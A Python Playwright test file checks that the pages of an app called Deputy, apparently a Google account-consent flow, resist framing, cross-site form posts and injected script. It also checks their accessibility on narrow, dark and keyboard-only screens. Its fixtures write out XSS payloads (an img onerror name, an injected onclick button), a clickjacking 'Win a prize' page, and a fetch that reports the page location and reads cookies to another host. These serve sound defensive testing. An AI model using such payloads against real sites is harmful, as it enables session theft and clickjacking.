"""The content that browsers allow in Deputy's pages, and their use on narrow screens, in the dark and by keyboard."""

from __future__ import annotations

import asyncio
import html
from collections.abc import AsyncIterator
from functools import partial
from typing import Literal
from urllib.parse import urlsplit

import pytest
import pytest_asyncio
from playwright.async_api import Page
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

from app.sandbox.server import serve_loopback
from tests.browser.conftest import Pair
from tests.browser.people import NAME, NARROW, Person, at
from tests.browser.readable import faults, focus_on
from tests.contract.channels import HttpDriver, Sender
from tests.fakes.server import ADA, GRACE, Server, eventually

pytestmark = pytest.mark.asyncio(loop_scope="package")

FRAMED = "chrome-error://chromewebdata/"  # shown by Chromium in place of a page that may not be framed
REFUSED = ["base-uri", "connect-src", "frame-src", "img-src", "script-src-attr", "script-src-elem", "style-src-elem"]
INJECTED = """async elsewhere => {
    const refused = []
    document.addEventListener("securitypolicyviolation", event => refused.push(event.effectiveDirective))
    const add = (name, changes) => document.body.append(Object.assign(document.createElement(name), changes))
    add("script", {textContent: "window.ran = true"})
    add("script", {src: elsewhere + "/script.js"})
    add("p", {innerHTML: '<button id="attack" onclick="window.ran = true">Click</button>'})
    document.getElementById("attack").click()
    add("img", {src: elsewhere + "/pixel.png"})
    add("iframe", {src: elsewhere + "/frame"})
    add("style", {textContent: "main { display: none }"})
    add("base", {href: elsewhere})
    await fetch(elsewhere + "/told?page=" + encodeURIComponent(location)).catch(() => null)
    for (let round = 0; round < 500 && !refused.includes("frame-src"); round++)  // another process says so
        await new Promise(resolve => setTimeout(resolve, 10))
    return {refused: [...new Set(refused)].sort(), ran: window.ran === true, cookies: document.cookie}
}"""


@pytest_asyncio.fixture(loop_scope="package", scope="module")
async def elsewhere() -> AsyncIterator[str]:
    """Yield another site, which frames the address in its query and has a button that posts there."""

    async def show(request: Request) -> Response:
        target = html.escape(request.query_params.get("target", ""))
        return HTMLResponse(
            f'<!doctype html><link rel="icon" href="data:,"><iframe src="{target}"></iframe>'
            f'<form method="post" action="{target}"><button>Win a prize</button></form>'
        )

    async with serve_loopback(Starlette(routes=[Route("/{path:path}", show)])) as url:
        yield url


async def test_no_other_site_frames_a_page_or_presses_its_button(elsewhere: str, people: Pair) -> None:
    """Another site can neither frame a link's page nor post to it, and the link still works afterwards."""

    async def attacked(person: Person) -> None:
        link, page = await person.link(), person.page
        await page.goto(f"{elsewhere}?target={link}")
        await eventually(partial(page.frame, url=FRAMED))
        assert not await page.frame_locator("iframe").get_by_text("Google").count()
        await eventually(partial(person.complained, "frame-ancestors 'none'"))
        await page.get_by_role("button", name="Win a prize").click()
        assert await person.heading() == "Not connected"
        assert "Another page sent you here" in await page.locator("main").inner_text()
        await page.goto(link)
        assert await person.heading() == "Connect your Google account"

    await asyncio.gather(*(attacked(person) for person in people))


async def test_no_script_runs_and_nothing_is_loaded_from_elsewhere(
    server: Server, pages: list[Page], elsewhere: str
) -> None:
    """No script runs and nothing loads from another site, from a person's name or from markup injected into a page."""
    for page, email in zip(pages, (ADA, GRACE), strict=True):
        sender = Sender(f'{email}<img src="{elsewhere}/name.png" onerror="window.ran = true">', email)
        async with at(page, sender, HttpDriver(server)) as person:
            await page.goto(await person.link())
            shown = await page.locator("main").inner_text()
            found = await page.evaluate(INJECTED, elsewhere)

            assert sender.name in shown
            assert found["ran"] is False
            assert found["cookies"] == ""
            assert found["refused"] == REFUSED
            assert await page.locator("main").is_visible()
            assert {urlsplit(answer.url).hostname for answer in await person.answers()} == {NAME}


async def walk(person: Person, scheme: Literal["light", "dark"]) -> list[str]:
    """Complete the consent on a narrow screen with the keyboard alone, and return the faults of every page."""
    page = person.page
    await page.set_viewport_size(NARROW)
    await page.emulate_media(color_scheme=scheme)
    await page.goto(await person.link())
    await focus_on(page, "Continue to Google")
    found = await faults(page)
    await page.keyboard.press("Enter")
    await page.get_by_text("Choose an account").wait_for()
    await focus_on(page, ADA)
    found += await faults(page)
    await page.keyboard.press("Space" if person.sender.email == ADA else "ArrowDown")
    await focus_on(page, "Allow")
    found += await faults(page)
    await page.keyboard.press("Enter")
    await person.code()
    assert await page.get_by_text(person.sender.email).is_visible()
    found += await faults(page)
    await page.reload()
    return found + await faults(page)


async def test_the_keyboard_alone_leads_through_narrow_pages(people: Pair) -> None:
    """At 360 px, light and dark, each page can be used by keyboard, is readable, and has labels and visible focus."""
    ada, grace = people
    in_light, in_dark = await asyncio.gather(walk(ada, "light"), walk(grace, "dark"))

    assert (in_light, in_dark) == ([], [])
